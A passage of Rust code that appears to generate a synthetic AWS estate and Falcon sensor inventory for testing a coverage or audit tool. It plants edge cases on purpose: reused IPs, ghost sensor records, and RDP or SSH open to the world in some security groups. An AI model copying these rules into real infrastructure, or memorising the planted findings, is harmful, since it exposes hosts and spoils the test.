                    name: format!("com.amazonaws.{region}.s3"),
                    owner: "AWS".into(),
                    max_entries: None,
                    entries: (0..4).map(|i| (format!("198.19.{}.0/24", 16 * r + i), String::new())).collect(),
                };
                let eks_cluster =
                    (account.env != Env::Dev).then(|| format!("{}-{}-eks", account.name, short_region(region)));
                let mut images = BTreeMap::new();
                for role in
                    [Role::Web, Role::Api, Role::Worker, Role::Batch, Role::DbProxy, Role::Bastion, Role::EksNode]
                {
                    images.insert(role.tag(), self.id("ami-0", 16)?);
                }
                images.insert("windows", self.id("ami-0", 16)?);
                let vpc_endpoint = self.id("vpce-0", 16)?;
                sites.push(Site {
                    account: a,
                    region: region.clone(),
                    vpcs,
                    prefix_lists: vec![corp, s3],
                    eks_cluster,
                    images,
                    vpc_endpoint,
                });
            }
        }
        for site in &mut sites {
            for vpc in &mut site.vpcs {
                self.groups(vpc, spec.network.extra_groups)?;
            }
        }
        Ok(sites)
    }

    /// A VPC with three public /24s and three private /18s, an internet gateway, NAT gateways
    /// (one per zone in production), route tables and network ACLs, and what `shape` adds. The
    /// legacy VPC (`suffix` `legacy`) has one private subnet; another suffix names an extra VPC.
    fn vpc(
        &mut self,
        account: &Account,
        region: &str,
        octet: u8,
        suffix: Option<&str>,
        shape: &NetworkShape,
    ) -> Result<Vpc> {
        let legacy = suffix == Some("legacy");
        let name = match suffix {
            Some("legacy") => format!("{}-legacy", account.name),
            Some(suffix) => format!("{}-{region}-{suffix}", account.name),
            None => format!("{}-{region}", account.name),
        };
        let mut vpc = Vpc {
            id: self.id("vpc-0", 16)?,
            name: name.clone(),
            cidr: format!("10.{octet}.0.0/16"),
            is_default: false,
            created: BASE_TIME - self.between(500 * DAY, 1500 * DAY),
            subnets: Vec::new(),
            igw: None,
            nats: Vec::new(),
            groups: Vec::new(),
            route_tables: Vec::new(),
            acls: Vec::new(),
            peer_routes: Vec::new(),
        };
        if legacy {
            // One private subnet, overlapping the first private subnet of the main VPC; its own
            // hosts start high so only the planted instance shares an address.
            vpc.subnets.push(Subnet {
                id: self.id("subnet-0", 16)?,
                name: format!("{name}-private-a"),
                az: format!("{region}a"),
                base: ipv4(10, octet, 64, 0),
                prefix: 18,
                public: false,
                next: LEGACY_FIRST_HOST,
                limit: u32::MAX,
                used: 0,
            });
        } else {
            for (z, letter) in AZ_LETTERS.iter().enumerate() {
                let z8 = z as u8;
                vpc.subnets.push(Subnet {
                    id: self.id("subnet-0", 16)?,
                    name: format!("{name}-public-{letter}"),
                    az: format!("{region}{letter}"),
                    base: ipv4(10, octet, z8, 0),
                    prefix: 24,
                    public: true,
                    next: 4,
                    limit: u32::MAX,
                    used: 0,
                });
            }
            for (z, letter) in AZ_LETTERS.iter().enumerate() {
                let z8 = z as u8;
                vpc.subnets.push(Subnet {
                    id: self.id("subnet-0", 16)?,
                    name: format!("{name}-private-{letter}"),
                    az: format!("{region}{letter}"),
                    base: ipv4(10, octet, 64 * (z8 + 1), 0),
                    prefix: 18,
                    public: false,
                    next: 4,
                    limit: u32::MAX,
                    used: 0,
                });
            }
            vpc.igw = Some(self.id("igw-0", 16)?);
            let nat_zones = if account.env == Env::Prod { 3 } else { 1 };
            for z in 0..nat_zones {
                let private_ip = self.allocate(&mut vpc.subnets, z)?;
                let public_ip = self.public_ip()?;
                vpc.nats.push(Nat {
                    id: self.id("nat-0", 16)?,
                    subnet: z,
                    eni: self.id("eni-0", 16)?,
                    allocation: self.id("eipalloc-0", 16)?,
                    association: self.id("eipassoc-0", 16)?,
                    private_ip,
                    public_ip,
                });
            }
        }
        // (subnet, association id) pairs; route tables and network ACLs name associations apart.
        let pairs = |g: &mut Gen, subnets: &[&Subnet], prefix: &str| -> Result<Vec<(String, String)>> {
            subnets.iter().map(|s| Ok((s.id.clone(), g.id(prefix, 16)?))).collect()
        };
        vpc.route_tables.push(RouteTable {
            id: self.id("rtb-0", 16)?,
            main: true,
            subnets: Vec::new(),
            default_route: None,
        });
        let public: Vec<&Subnet> = vpc.subnets.iter().filter(|s| s.public).collect();
        if let Some(igw) = vpc.igw.clone() {
            let subnets = pairs(self, &public, "rtbassoc-0")?;
            vpc.route_tables.push(RouteTable {
                id: self.id("rtb-0", 16)?,
                main: false,
                subnets,
                default_route: Some(("GatewayId", igw)),
            });
        }
        let private: Vec<&Subnet> = vpc.subnets.iter().filter(|s| !s.public).collect();
        for (z, subnet) in private.iter().enumerate() {
            let nat = vpc.nats.get(z).or(vpc.nats.first()).map(|n| ("NatGatewayId", n.id.clone()));
            let subnets = pairs(self, std::slice::from_ref(subnet), "rtbassoc-0")?;
            vpc.route_tables.push(RouteTable { id: self.id("rtb-0", 16)?, main: false, subnets, default_route: nat });
        }
        // Isolated subnets (data stores, endpoints) after the standard ones: the main route table
        // (local routes only), and the extra ACLs when there are any.
        let standard = vpc.subnets.len();
        if !legacy {
            for k in 0..shape.extra_subnets {
                let letter = AZ_LETTERS[k % AZ_LETTERS.len()];
                let third = u8::try_from(8 + k).map_err(|_| InventoryError::invalid_input("too many extra subnets"))?;
                vpc.subnets.push(Subnet {
                    id: self.id("subnet-0", 16)?,
                    name: format!("{name}-isolated-{}", k + 1),
                    az: format!("{region}{letter}"),
                    base: ipv4(10, octet, third, 0),
                    prefix: 24,
                    public: false,
                    next: 4,
                    limit: u32::MAX,
                    used: 0,
                });
            }
        }
        let (standard_subnets, isolated) = vpc.subnets.split_at(standard);
        let deny_rdp = account.env == Env::Prod && !legacy;
        let (mut default_subnets, custom_subnets): (Vec<&Subnet>, Vec<&Subnet>) =
            standard_subnets.iter().partition(|s| !(deny_rdp && s.public));
        let extra_acls = if legacy { 0 } else { shape.extra_acls };
        if extra_acls == 0 {
            default_subnets.extend(isolated);
        }
        let default_subnets = pairs(self, &default_subnets, "aclassoc-0")?;
        let mut acls = vec![NetworkAcl {
            id: self.id("acl-0", 16)?,
            is_default: true,
            subnets: default_subnets,
            deny_rdp: false,
            restricted: None,
        }];
        if deny_rdp {
            let subnets = pairs(self, &custom_subnets, "aclassoc-0")?;
            acls.push(NetworkAcl {
                id: self.id("acl-0", 16)?,
                is_default: false,
                subnets,
                deny_rdp: true,
                restricted: None,
            });
        }
        for j in 0..extra_acls {
            let mine: Vec<&Subnet> = isolated.iter().skip(j).step_by(extra_acls).collect();
            let subnets = pairs(self, &mine, "aclassoc-0")?;
            let denied = self.chance(0.5).then(|| format!("198.18.{}.0/24", self.below(256)));
            let restricted = RestrictedAcl { vpc_cidr: vpc.cidr.clone(), denied, vpc_only_egress: self.chance(0.5) };
            acls.push(NetworkAcl {
                id: self.id("acl-0", 16)?,
                is_default: false,
                subnets,
                deny_rdp: false,
                restricted: Some(restricted),
            });
        }
        vpc.acls = acls;
        Ok(vpc)
    }

    /// The default VPC every region has (172.31.0.0/16), unused but present, as in real accounts;
    /// AWS creates it without a Name tag.
    fn default_vpc(&mut self, region: &str) -> Result<Vpc> {
        let mut subnets = Vec::new();
        for (z, letter) in AZ_LETTERS.iter().enumerate() {
            subnets.push(Subnet {
                id: self.id("subnet-0", 16)?,
                name: String::new(),
                az: format!("{region}{letter}"),
                base: ipv4(172, 31, 16 * z as u8, 0),
                prefix: 20,
                public: true,
                next: 4,
                limit: u32::MAX,
                used: 0,
            });
        }
        let igw = self.id("igw-0", 16)?;
        let rt_subnets = Vec::new();
        let acl_subnets =
            subnets.iter().map(|s| Ok((s.id.clone(), self.id("aclassoc-0", 16)?))).collect::<Result<Vec<_>>>()?;
        Ok(Vpc {
            id: self.id("vpc-0", 16)?,
            name: String::new(),
            cidr: "172.31.0.0/16".into(),
            is_default: true,
            created: BASE_TIME - self.between(1500 * DAY, 2500 * DAY),
            subnets,
            igw: Some(igw.clone()),
            nats: Vec::new(),
            groups: Vec::new(),
            route_tables: vec![RouteTable {
                id: self.id("rtb-0", 16)?,
                main: true,
                subnets: rt_subnets,
                default_route: Some(("GatewayId", igw)),
            }],
            acls: vec![NetworkAcl {
                id: self.id("acl-0", 16)?,
                is_default: true,
                subnets: acl_subnets,
                deny_rdp: false,
                restricted: None,
            }],
            peer_routes: Vec::new(),
        })
    }

    /// Hand out the next address of a subnet (a few addresses apart, as a busy subnet looks).
    fn allocate(&mut self, subnets: &mut [Subnet], index: usize) -> Result<u32> {
        let step = self.rng.random_range(1..4);
        let subnet = subnets.get_mut(index).ok_or_else(|| InventoryError::permanent("subnet index out of range"))?;
        let offset = subnet.next;
        if offset >= subnet.limit.min(subnet.size() - 1) {
            return Err(InventoryError::invalid_input(format!(
                "estate spec: subnet {} is full; ask for fewer instances or more regions",
                subnet.cidr()
            )));
        }
        subnet.next += step;
        subnet.used += 1;
        Ok(subnet.base + offset)
    }

    /// The security groups of a VPC (ids and names; rules come later, once every id exists), with
    /// `extra` service groups in an application VPC.
    fn groups(&mut self, vpc: &mut Vpc, extra: usize) -> Result<()> {
        let keys: &[(&str, &str)] = if vpc.is_default || vpc.name.ends_with("-legacy") {
            &[("default", "default VPC security group")]
        } else {
            &[
                ("default", "default VPC security group"),
                ("alb-public", "Public load balancers"),
                ("alb-internal", "Internal load balancers"),
                ("web", "Web tier"),
                ("api", "API tier"),
                ("worker", "Queue workers"),
                ("batch", "Batch jobs"),
                ("db-proxy", "PgBouncer and ProxySQL"),
                ("bastion", "SSH bastion"),
                ("eks-nodes", "EKS managed node groups"),
                ("eks-cluster", "EKS control plane"),
                ("rds", "Databases"),
                ("windows-rdp", "Windows batch hosts"),
            ]
        };
        let legacy = vpc.name.ends_with("-legacy");
        // Every environment has the RDP group, production included: Windows hosts with RDP open
        // to the world are what `open_ingress_production` exists to find.
        for (key, description) in keys {
            let name = match (*key, legacy) {
                ("default", _) => "default".to_owned(),
                _ => format!("{}-{key}", vpc.name),
            };
            vpc.groups.push(Group {
                id: self.id("sg-0", 16)?,
                name,
                key,
                description: (*description).to_owned(),
                rules: Vec::new(),
            });
        }
        if legacy {
            vpc.groups.push(Group {
                id: self.id("sg-0", 16)?,
                name: format!("{}-app", vpc.name),
                key: "legacy-app",
                description: "Legacy monolith".into(),
                rules: Vec::new(),
            });
        }
        if vpc.is_application() {
            // Every tenth service is a public web front end (HTTP and HTTPS open to the world).
            for k in 0..extra {
                let (key, description) = if k % 10 == 9 {
                    ("service-public", "Public web service")
                } else {
                    ("service", "Internal service")
                };
                vpc.groups.push(Group {
                    id: self.id("sg-0", 16)?,
                    name: format!("{}-svc-{:03}", vpc.name, k + 1),
                    key,
                    description: description.into(),
                    rules: Vec::new(),
                });
            }
        }
        Ok(())
    }

    fn instances(&mut self, spec: &EstateSpec, accounts: &[Account], sites: &mut [Site]) -> Result<Vec<Instance>> {
        let weights: Vec<f64> = sites.iter().map(|s| accounts.get(s.account).map_or(1.0, |a| a.env.weight())).collect();
        let mut quotas = apportion(spec.instances, &weights);
        // The first site holds the planted edge cases: it takes a few instances from the largest
        // sites when its share is smaller than that (a bounded number of moves).
        let floor = EDGE_SITE_FLOOR.min(spec.instances);
        for _ in 0..floor {
            if quotas.first().is_none_or(|q| *q >= floor) {
                break;
            }
            let Some(donor) = (1..quotas.len()).max_by_key(|&i| (quotas[i], std::cmp::Reverse(i))) else { break };
            if quotas[donor] == 0 {
                break;
            }
            quotas[donor] -= 1;
            quotas[0] += 1;
        }
        let mut out = Vec::with_capacity(spec.instances);
        for (s, quota) in quotas.iter().enumerate() {
            let env = sites.get(s).and_then(|site| accounts.get(site.account)).map_or(Env::Dev, |a| a.env);
            let has_eks = sites.get(s).is_some_and(|site| site.eks_cluster.is_some());
            for n in 0..*quota {
                let role = if s == 0 && n < 4 {
                    // The edge-case instances: plain Linux services in the first private subnet.
                    [Role::Api, Role::Worker, Role::Batch, Role::Web][n]
                } else if n == 4 && *quota >= 10 {
                    Role::Bastion
                } else {
                    let mut table = vec![
                        (Role::Web, 15),
                        (Role::Api, 20),
                        (Role::Worker, 20),
                        (Role::Batch, 10),
                        (Role::DbProxy, 5),
                    ];
                    if has_eks {
                        table.push((Role::EksNode, 30));
                    }
                    self.weighted(&table).unwrap_or(Role::Worker)
                };
                let windows = matches!(role, Role::Batch | Role::Worker) && !(s == 0 && n < 4) && self.chance(0.15);
                let edge = s == 0 && n < 4;
                let instance = self.instance(sites, s, env, role, windows, edge)?;
                out.push(instance);
            }
        }
        // Plant the IP reused across two VPCs: the second edge instance moves to the legacy VPC
        // of the same account, on the first edge instance's address.
        let legacy = sites.first().and_then(|site| site.vpcs.iter().position(|v| v.name.ends_with("-legacy")));
        if let (Some(legacy), Some(first_ip)) = (legacy, out.first().map(|i| i.private_ip)) {
            if let (Some(second), Some(site)) = (out.get_mut(1), sites.first_mut()) {
                second.vpc = legacy;
                second.subnet = 0;
                second.private_ip = first_ip;
                second.public_ip = None;
                second.name = format!("{}-legacy-app-1", COMPANY);
                if let Some(subnet) = site.vpcs.get_mut(legacy).and_then(|v| v.subnets.first_mut()) {
                    subnet.used += 1;
                }
            }
        }
        // Reservations: instances of one autoscaling group launched together share one.
        let mut current: Option<(usize, Option<String>, String)> = None;
        for instance in &mut out {
            let reuse = match &current {
                Some((site, asg, _)) => {
                    *site == instance.site && asg.is_some() && *asg == instance.asg && self.chance(0.4)
                }
                None => false,
            };
            if reuse {
                if let Some((_, _, id)) = &current {
                    instance.reservation = id.clone();
                }
            } else {
                let id = self.id("r-0", 16)?;
                instance.reservation = id.clone();
                current = Some((instance.site, instance.asg.clone(), id));
            }
        }
        Ok(out)
    }

    fn weighted<T: Copy>(&mut self, table: &[(T, u32)]) -> Option<T> {
        let total: u32 = table.iter().map(|(_, w)| w).sum();
        if total == 0 {
            return None;
        }
        let mut roll = self.rng.random_range(0..total);
        for (item, weight) in table {
            if roll < *weight {
                return Some(*item);
            }
            roll -= weight;
        }
        None
    }

    fn instance(
        &mut self,
        sites: &mut [Site],
        s: usize,
        env: Env,
        role: Role,
        windows: bool,
        edge: bool,
    ) -> Result<Instance> {
        let site = sites.get_mut(s).ok_or_else(|| InventoryError::permanent("site index out of range"))?;
        let region = site.region.clone();
        let cluster = site.eks_cluster.clone();
        // The edge cases need the main VPC; other instances spread over the application VPCs.
        let applications: Vec<usize> = (0..site.vpcs.len()).filter(|&v| site.vpcs[v].is_application()).collect();
        let v = if edge || applications.len() <= 1 { 0 } else { applications[self.below(applications.len())] };
        let vpc = site.vpcs.get_mut(v).ok_or_else(|| InventoryError::permanent("a site without its VPC"))?;
        let zone = if edge { 0 } else { self.below(3) };
        // Public subnets are 0..3, private 3..6.
        let subnet = if role.public() && !edge { zone } else { 3 + zone };
        let private_ip = self.allocate(&mut vpc.subnets, subnet)?;
        let mut secondary_ips = Vec::new();
        if role == Role::EksNode {
            for _ in 0..3 {
                secondary_ips.push(self.allocate(&mut vpc.subnets, subnet)?);
            }
        }
        let public_ip = if role.public() && !edge { Some(self.public_ip()?) } else { None };
        let (asg, node_group, age) = match role {
            Role::EksNode => {
                let group = if self.chance(0.7) { "general" } else { "spot" };
                let cluster = cluster.unwrap_or_default();
                let suffix = self.hex(8);
                (
                    Some(format!("eks-{cluster}-{group}-{suffix}")),
                    Some(group.to_owned()),
                    self.between(2 * HOUR, 14 * DAY),
                )
            }
            Role::Bastion | Role::DbProxy => (None, None, self.between(30 * DAY, 600 * DAY)),
            _ if edge => (None, None, self.between(30 * DAY, 400 * DAY)),
            _ => (Some(format!("{}-{}-asg", env.name(), role.tag())), None, self.between(12 * HOUR, 45 * DAY)),
        };
        let id = self.id("i-0", 16)?;
        let eni = self.id("eni-0", 16)?;
        let attachment = self.id("eni-attach-0", 16)?;
        let instance_type = self.pick(role.instance_types()).unwrap_or("t3.medium");
        let http_tokens = if self.chance(0.15) { "optional" } else { "required" };
        let name = match role {
            Role::EksNode => {
                format!("{}-{}", cluster_or(&site.eks_cluster), node_group.as_deref().unwrap_or("general"))
            }
            _ => format!("{}-{}-{}", env.name(), role.tag(), short_region(&region)),
        };
        Ok(Instance {
            id,
            site: s,
            vpc: v,
            subnet,
            role,
            windows,
            private_ip,
            secondary_ips,
            public_ip,
            mac: self.mac(),
            eni,
            attachment,
            reservation: String::new(),
            launch: BASE_TIME - age,
            instance_type,
            http_tokens,
            name,
            asg,
            node_group,
        })
    }

    fn security_group_rules(&mut self, spec: &EstateSpec, accounts: &[Account], sites: &mut [Site]) -> Result<()> {
        for site in sites.iter_mut() {
            let env = accounts.get(site.account).map_or(Env::Dev, |a| a.env);
            let corp = site.prefix_lists.first().map(|p| p.id.clone()).unwrap_or_default();
            let s3 = site.prefix_lists.get(1).map(|p| p.id.clone()).unwrap_or_default();
            for vpc in &mut site.vpcs {
                let ids: BTreeMap<&'static str, String> = vpc.groups.iter().map(|g| (g.key, g.id.clone())).collect();
                let every_id: Vec<String> = vpc.groups.iter().map(|g| g.id.clone()).collect();
                let vpc_cidr = vpc.cidr.clone();
                let group = |key: &str| Source::Group(ids.get(key).cloned().unwrap_or_default());
                let any4 = || Source::Ipv4("0.0.0.0/0".into());
                for g in 0..vpc.groups.len() {
                    let key = vpc.groups.get(g).map_or("", |g| g.key);
                    let ingress: Vec<(&'static str, i64, i64, Source, &str)> = match key {
                        "default" => vec![("-1", -1, -1, group("default"), "")],
                        "alb-public" => vec![
                            ("tcp", 443, 443, any4(), "HTTPS from anywhere"),
                            ("tcp", 80, 80, any4(), "HTTP redirect"),
                            ("tcp", 443, 443, Source::Ipv6("::/0".into()), "HTTPS from anywhere (IPv6)"),
                        ],
                        "alb-internal" => vec![("tcp", 443, 443, Source::Ipv4(vpc.cidr.clone()), "VPC clients")],
                        "web" => {
                            let mut rules = vec![
                                ("tcp", 8080, 8080, group("alb-public"), "from the public ALB"),
                                ("tcp", 22, 22, group("bastion"), "SSH from the bastion"),
                            ];
                            if env == Env::Dev {
                                rules.push(("tcp", 443, 443, any4(), "direct HTTPS for testing"));
                            }
                            rules
                        }
                        "api" => vec![
                            ("tcp", 8080, 8080, group("alb-internal"), "from the internal ALB"),
                            ("tcp", 8080, 8080, group("web"), "from the web tier"),
                            ("tcp", 22, 22, group("bastion"), "SSH from the bastion"),
                        ],
                        "worker" => vec![
                            ("tcp", 9000, 9000, group("api"), "job callbacks"),
                            ("tcp", 22, 22, group("bastion"), ""),
                        ],
                        "batch" => vec![("tcp", 22, 22, Source::PrefixList(corp.clone()), "SSH from the offices")],
                        "db-proxy" => vec![
                            ("tcp", 6432, 6432, group("api"), "PgBouncer"),
                            ("tcp", 6432, 6432, group("worker"), "PgBouncer"),
                        ],
                        "bastion" if env == Env::Prod => {
                            vec![("tcp", 22, 22, Source::PrefixList(corp.clone()), "SSH from the offices")]
                        }
                        "bastion" => vec![("tcp", 22, 22, any4(), "SSH from anywhere (temporary)")],
                        "eks-nodes" => vec![
                            ("-1", -1, -1, group("eks-nodes"), "node to node"),
                            ("tcp", 443, 443, group("eks-cluster"), "control plane to kubelet webhooks"),
                            ("tcp", 1025, 65535, group("eks-cluster"), "control plane to pods"),
                        ],
                        "eks-cluster" => vec![("tcp", 443, 443, group("eks-nodes"), "nodes to the API server")],
                        "rds" => {
                            let mut rules = vec![
                                ("tcp", 5432, 5432, group("db-proxy"), "PostgreSQL from the proxies"),
                                ("tcp", 3306, 3306, group("api"), "MySQL from the API"),
                            ];
                            if env == Env::Dev {
                                rules.push(("tcp", 5432, 5432, any4(), "PostgreSQL for local development"));
                            }
                            rules
                        }
                        "windows-rdp" => vec![("tcp", 3389, 3389, any4(), "RDP")],
                        "legacy-app" => {
                            vec![("tcp", 8080, 8080, Source::Ipv4("10.0.0.0/8".into()), "internal clients")]
                        }
                        "service" => {
                            // A caller group of the same VPC on the service's port, and the VPC on HTTPS.
                            let caller = every_id.get(self.below(every_id.len())).cloned().unwrap_or_default();
                            let port = [8080, 8443, 9000, 50051][self.below(4)];
                            vec![
                                ("tcp", port, port, Source::Group(caller), "service callers"),
                                ("tcp", 443, 443, Source::Ipv4(vpc_cidr.clone()), "VPC clients"),
                            ]
                        }
                        "service-public" => vec![
                            ("tcp", 443, 443, any4(), "HTTPS from anywhere"),
                            ("tcp", 80, 80, any4(), "HTTP from anywhere"),
                            ("tcp", 8080, 8080, group("alb-public"), "from the public ALB"),
                        ],
                        _ => Vec::new(),
                    };
                    let mut egress: Vec<(&'static str, i64, i64, Source, &str)> = vec![("-1", -1, -1, any4(), "")];
                    if key == "eks-nodes" {
                        egress.push((
                            "tcp",
                            443,
                            443,
                            Source::PrefixList(s3.clone()),
                            "S3 through the gateway endpoint",
                        ));
                    }
                    let mut rules = Vec::new();
                    for (egress_flag, list) in [(false, ingress), (true, egress)] {
                        for (protocol, from, to, source, description) in list {
                            rules.push(Rule {
                                id: self.id("sgr-0", 16)?,
                                egress: egress_flag,
                                protocol,
                                from,
                                to,
                                source,
                                description: description.to_owned(),
                            });
                        }
                    }
                    if let Some(group) = vpc.groups.get_mut(g) {
                        group.rules = rules;
                    }
                }
            }
        }
        // Top up to the requested total with the rules real estates accumulate: partner and office
        // addresses, peer VPC ranges, the office prefix list and other groups of the same VPC.
        let base: usize = sites.iter().flat_map(|s| &s.vpcs).flat_map(|v| &v.groups).map(|g| g.rules.len()).sum();
        let mut slots = Vec::new();
        for (s, site) in sites.iter().enumerate() {
            for (v, vpc) in site.vpcs.iter().enumerate() {
                for (g, group) in vpc.groups.iter().enumerate() {
                    if !vpc.is_default && group.key != "default" {
                        slots.push((s, v, g));
                    }
                }
            }
        }
        const PORTS: [(i64, i64); 12] = [
            (443, 443),
            (8443, 8443),
            (8080, 8080),
            (9090, 9090),
            (5432, 5432),
            (6379, 6379),
            (9200, 9200),
            (22, 22),
            (3389, 3389),
            (27017, 27017),
            (11211, 11211),
            (30000, 32767),
        ];
        const PARTNERS: [&str; 6] =
            ["payments partner", "monitoring vendor", "office VPN", "CI runners", "support desk", "audit scanner"];
        // AWS refuses a rule that duplicates one the group has, so extra rules never repeat one.
        let mut seen: BTreeSet<(String, bool, i64, i64, Source)> = sites
            .iter()
            .flat_map(|s| &s.vpcs)
            .flat_map(|v| &v.groups)
            .flat_map(|g| g.rules.iter().map(move |r| (g.id.clone(), r.egress, r.from, r.to, r.source.clone())))
            .collect();
        let extra = spec.sg_rules.saturating_sub(base);
        let mut added = 0;
        let mut attempts = 0;
        while added < extra && !slots.is_empty() {
            attempts += 1;
            if attempts > extra * 20 + 1000 {
                return Err(InventoryError::permanent(
                    "could not place the requested number of distinct security-group rules",
                ));
            }
            let (s, v, g) = slots[self.below(slots.len())];
            let Some(site) = sites.get(s) else { continue };
            let Some(vpc) = site.vpcs.get(v) else { continue };
            let Some(group) = vpc.groups.get(g) else { continue };
            let (from, to) = self.pick(&PORTS).unwrap_or((443, 443));
            let share = spec.network.group_reference_share;
            // (No draw for the standard mix, so that estates without the share stay as they were.)
            let source = if share > 0.0 && vpc.groups.len() > 1 && self.chance(share) {
                Source::Group(vpc.groups.get(self.below(vpc.groups.len())).map(|o| o.id.clone()).unwrap_or_default())
            } else {
                match self.below(10) {
                    0..=4 => Source::Ipv4(format!("{}/32", dotted(self.corp_address()))),
                    5 => Source::Ipv4(format!("10.{}.0.0/16", self.below(200) + 50)),
                    6 => Source::PrefixList(site.prefix_lists.first().map(|p| p.id.clone()).unwrap_or_default()),
                    7 if vpc.groups.len() > 1 => {
                        let other =
                            vpc.groups.get(self.below(vpc.groups.len())).map(|o| o.id.clone()).unwrap_or_default();
                        Source::Group(other)
                    }
                    8 => Source::Ipv4(format!("{}/24", dotted(self.corp_address() & 0xFFFF_FF00))),
                    _ => Source::Ipv4(format!("198.18.{}.0/24", self.below(256))),
                }
            };
            if !seen.insert((group.id.clone(), false, from, to, source.clone())) {
                continue;
            }
            let description = format!("{} ({})", self.pick(&PARTNERS).unwrap_or("partner"), self.upper(6));
            let rule =
                Rule { id: self.id("sgr-0", 16)?, egress: false, protocol: "tcp", from, to, source, description };
            if let Some(group) =
                sites.get_mut(s).and_then(|site| site.vpcs.get_mut(v)).and_then(|vpc| vpc.groups.get_mut(g))
            {
                group.rules.push(rule);
                added += 1;
            }
        }
        Ok(())
    }

    /// An address in one of the documentation ranges the offices and partners use.
    fn corp_address(&mut self) -> u32 {
        let base = [ipv4(203, 0, 113, 0), ipv4(198, 51, 100, 0), ipv4(192, 0, 2, 0)][self.below(3)];
        base + self.below(256) as u32
    }

    /// The Falcon tenant: one live record per protected instance, the planted edge cases, and the
    /// autoscaling ghosts that fill the dead-record budget.
    fn sensors(&mut self, spec: &EstateSpec, sites: &[Site], instances: &[Instance]) -> Result<Sensors> {
        let n = instances.len();
        // Edge instances (all in the first site): 0 and 1 share an IP in two VPCs, 2 has a ghost on
        // its IP, 3 has a host seen before it launched. All four are unprotected.
        let edge: BTreeSet<usize> = (0..4).collect();
        let unprotected_target = ((spec.unprotected_ratio * n as f64).round() as usize).max(edge.len()).min(n);
        let mut candidates: Vec<usize> = (0..n).filter(|i| !edge.contains(i)).collect();
        self.shuffle(&mut candidates);
        let unprotected: BTreeSet<usize> =
            edge.iter().copied().chain(candidates.iter().copied().take(unprotected_target - edge.len())).collect();
        let protected: Vec<usize> = (0..n).filter(|i| !unprotected.contains(i)).collect();

        let mut by_ip = protected.clone();
        self.shuffle(&mut by_ip);
        let ip_matched: BTreeSet<usize> = by_ip.iter().copied().take((protected.len() / 12).max(2)).collect();
        let mut reinstalled: Vec<usize> = protected
            .iter()
            .copied()
            .filter(|i| !ip_matched.contains(i) && instances.get(*i).is_some_and(|x| x.launch < BASE_TIME - 2 * DAY))
            .collect();
        self.shuffle(&mut reinstalled);
        let reinstalled: BTreeSet<usize> = reinstalled.into_iter().take((protected.len() / 30).max(2)).collect();

        let mut hosts = Vec::new();
        let mut coverage = vec![None; n];
        for &i in &protected {
            let Some(instance) = instances.get(i) else { continue };
            let by_ip = ip_matched.contains(&i);
            let mut first_seen = instance.launch + self.between(60, 15 * 60);
            if reinstalled.contains(&i) {
                // An older record of the same instance: the sensor was reinstalled (a new device id).
                let older = self.below(2) + 1;
                let span = (BASE_TIME - 2 * HOUR - first_seen) / (older as i64 + 1);
                for k in 0..older {
                    let start = first_seen + span * k as i64;
                    let last = start + span - self.between(10 * 60, 60 * 60).min(span / 2);
                    let host = self.host(sites, instance, Some(instance.id.clone()), start, last)?;
                    hosts.push(Host { status: DeviceStatus::Stale, case: DeviceCase::Superseded, owner: None, ..host });
                }
                first_seen += span * older as i64;
            }
            let last_seen = BASE_TIME - self.between(30, 55 * 60);
            let instance_id = (!by_ip).then(|| instance.id.clone());
            let mut host = self.host(sites, instance, instance_id, first_seen, last_seen)?;
            // Matched by address, it is still this instance's interface.
            host.mac = instance.mac;
            let (case, matched_by) = if by_ip {
                (DeviceCase::PrivateIp, MatchedBy::PrivateIp)
            } else {
                (DeviceCase::InstanceId, MatchedBy::InstanceId)
            };
            coverage[i] = Some((hosts.len(), matched_by));
            hosts.push(Host { status: DeviceStatus::Live, case, owner: Some(i), ..host });
        }

        let mut planted = 0usize;
        if let (Some(a), Some(b), Some(c), Some(d)) =
            (instances.first(), instances.get(1), instances.get(2), instances.get(3))
        {
            let seen_from = a.launch.max(b.launch) + HOUR;
            let host = self.host(sites, a, None, seen_from, BASE_TIME - 10 * 60)?;
            hosts.push(Host { status: DeviceStatus::Stale, case: DeviceCase::AmbiguousPrivateIp, owner: None, ..host });
            let ghost_id = self.id("i-0", 16)?;
            let host = self.host(sites, c, Some(ghost_id), c.launch - 3 * DAY, c.launch - 7 * 60)?;
            hosts.push(Host {
                status: DeviceStatus::Stale,
                case: DeviceCase::TerminatedInstanceIpReused,
                owner: None,
                ..host
            });
            let host = self.host(sites, d, None, d.launch - 20 * DAY, d.launch - 2 * HOUR)?;
            hosts.push(Host { status: DeviceStatus::Stale, case: DeviceCase::SeenBeforeLaunch, owner: None, ..host });
            planted = 3;
        }
        let superseded = hosts.iter().filter(|h| h.case == DeviceCase::Superseded).count();
        let budget = (spec.falcon_ghost_ratio * n as f64).round() as usize;
        let ghosts = budget.saturating_sub(superseded + planted);
        for _ in 0..ghosts {
            let Some(template) = instances.get(self.below(n)) else { break };
            let Some(site) = sites.get(template.site) else { continue };
            let Some(vpc) = site.vpcs.first() else { continue };
            let private: Vec<&Subnet> = vpc.subnets.iter().filter(|s| !s.public).collect();
            let Some(subnet) = private.get(self.below(private.len())) else { continue };
            let ip = subnet.base + 4 + self.below((subnet.size() - 6) as usize) as u32;
            let last_seen = BASE_TIME - self.between(3 * DAY, 240 * DAY);
            let first_seen = last_seen - self.between(HOUR, 20 * DAY);
            let ghost_id = self.id("i-0", 16)?;
            let role = if self.chance(0.6) {
                template.role
            } else {
                self.pick(&[Role::Worker, Role::Batch, Role::EksNode]).unwrap_or(Role::Worker)
            };
            let versions: &[&'static str] = &["6.58.16404.0", "7.05.17603.0", "7.10.17706.0", "7.14.18410.0"];
            let device_id = self.id("", 32)?;
            let az = subnet.az.clone();
            hosts.push(Host {
                device_id,
                account: site.account,
                az,
                instance_id: Some(ghost_id),
                ip,
                mac: self.mac(),
                hostname: private_dns(ip, &site.region),
                external_ip: vpc.nats.first().map(|nat| nat.public_ip),
                first_seen,
                last_seen,
                agent_version: self.pick(versions).unwrap_or("7.10.17706.0"),
                windows: false,
                instance_type: self.pick(role.instance_types()).unwrap_or("m6i.large"),
                role,
                status: DeviceStatus::Stale,
                case: DeviceCase::TerminatedInstance,
                owner: None,
            });
        }
        Ok(Sensors { hosts, coverage })
    }

    fn shuffle<T>(&mut self, items: &mut [T]) {
        for i in (1..items.len()).rev() {
            let j = self.rng.random_range(0..=i);
            items.swap(i, j);
        }
    }

    /// A Falcon host record on an instance (or on its address when `instance_id` is not its own).
    fn host(
        &mut self,
        sites: &[Site],
        instance: &Instance,
        instance_id: Option<String>,
        first_seen: i64,
        last_seen: i64,
    ) -> Result<Host> {
